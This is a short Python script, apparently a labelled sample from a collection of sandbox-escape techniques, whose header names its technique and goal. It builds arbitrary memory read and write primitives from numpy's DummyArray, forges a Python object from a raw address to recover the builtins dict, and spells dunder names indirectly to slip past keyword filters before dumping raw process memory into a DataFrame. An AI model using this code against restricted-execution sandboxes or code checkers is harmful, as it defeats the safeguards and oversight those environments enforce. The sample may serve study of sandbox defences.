# class: class_making
# technique: builtins['type'] from the forged builtins dict builds a class with a run-time __array_interface__ property (builtins dict forged from raw memory with numpy.lib.stride_tricks.DummyArray)
# goal: memory
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray


def view(address, size):
    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))


def peek(address):
    return int(view(address, 8).view(np.uint64)[0])


def poke(address, value):
    view(address, 8).view(np.uint64)[0] = value


def object_at(address):
    holder = [None]
    items = peek(id(holder) + 24)
    poke(address, peek(address) + 1)
    poke(items, address)
    return holder[0]


builtin = object_at(peek(id(view) + 24))

u = "_" * 2

Raw = builtin["type"]("Raw", (), {u + "array_interface" + u: property(lambda s: {
    "data": (id(s) - 1024, False), "shape": (4096,), "typestr": "|u1", "version": 3})})
df = pd.DataFrame({"byte": np.asarray(Raw()).copy()})
